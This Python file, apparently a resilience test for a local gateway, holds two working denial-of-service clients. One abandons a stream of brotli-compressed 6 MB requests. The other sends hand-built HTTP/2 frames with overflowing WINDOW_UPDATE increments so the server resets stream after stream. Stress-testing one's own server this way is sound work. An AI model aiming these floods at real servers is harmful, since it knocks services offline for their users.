"""Clients that make the gateway work and take nothing: `attackers.py NAME PORT SECONDS`, for as long as it is told.

encoded: ten times a second a text of 6 MB by brotli, which is encoded on the way; leaves when its head has come.
resets: HTTP/2 streams that the server itself has to reset, each for a window that overflows, on four connections.
"""

import contextlib
import socket
import struct
import sys
import threading
import time


def connected(port):
    return socket.create_connection(("127.0.0.1", port), timeout=5)


def ask_and_leave(port):
    with connected(port) as connection, contextlib.suppress(OSError):
        connection.sendall(b"GET /text/big.txt HTTP/1.1\r\nHost: dash\r\nAccept-Encoding: br\r\n\r\n")
        connection.recv(1024)


def encoded(port, end):
    while time.monotonic() < end:
        threading.Thread(target=ask_and_leave, args=(port,), daemon=True).start()
        time.sleep(0.1)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field without indexing whose name is in HPACK's static table, or not."""
    head = bytes([name]) if isinstance(name, int) else b"\0" + bytes([len(name)]) + name
    return head + bytes([len(value)]) + value


# :method GET, :scheme http, :path /slow, :authority dash
HEADERS = b"\x82\x86" + literal(4, b"/slow") + literal(1, b"dash")


def reset_again_and_again(port, end):
    while time.monotonic() < end:
        with connected(port) as connection, contextlib.suppress(OSError):
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            threading.Thread(target=drain, args=(connection,), daemon=True).start()
            for stream in range(1, 1 << 16, 2):
                if time.monotonic() > end:
                    return
                connection.sendall(
                    frame(1, 5, stream, HEADERS) + frame(8, 0, stream, struct.pack(">I", 0x7FFFFFFF))
                )


def drain(connection):
    with contextlib.suppress(OSError):
        while connection.recv(65536):
            pass


def resets(port, end):
    threads = [threading.Thread(target=reset_again_and_again, args=(port, end)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    name, port, seconds = sys.argv[1:]
    {"encoded": encoded, "resets": resets}[name](int(port), time.monotonic() + float(seconds))
